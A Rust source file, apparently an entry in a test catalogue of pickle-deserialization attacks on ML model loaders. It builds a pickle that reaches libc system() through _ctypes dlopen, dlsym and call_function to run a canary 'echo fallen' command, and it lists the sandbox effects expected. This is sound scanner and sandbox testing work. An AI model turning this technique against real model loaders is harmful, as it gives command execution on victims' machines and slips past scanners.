//! `system` of the C library, called through the core of `ctypes`.

use super::*;
use crate::pickle::Op;

/// The address of a function is looked up and called.
pub const ATTACK: Attack = Attack {
    id: "ctypes-system",
    title: "the C library's system through ctypes",
    summary: "The pickle opens the running program as a library, looks up system in it and \
              calls the address. It uses _ctypes, the part of ctypes that is written in C, \
              which needs no code of Python and no executable memory.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::NATIVE_API, techniques::UNIX_SHELL, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 78],
    references: &[
        Reference {
            title: "modelscan pull request 339: ctypes is unsafe",
            url: "https://github.com/protectai/modelscan/pull/339",
        },
        Reference {
            title: "Python documentation: ctypes",
            url: "https://docs.python.org/3/library/ctypes.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("_ctypes", "call_function").global("_ctypes", "dlsym");
        // No name opens the program itself; 2 is RTLD_NOW.
        assembler.global("_ctypes", "dlopen").op(Op::None).int(2).op(Op::Tuple2).op(Op::Reduce);
        assembler.text("system").op(Op::Tuple2).op(Op::Reduce);
        assembler.bytes(format!("{command}\0").as_bytes()).op(Op::Tuple1);
        assembler.op(Op::Tuple2).op(Op::Reduce);
    })
}
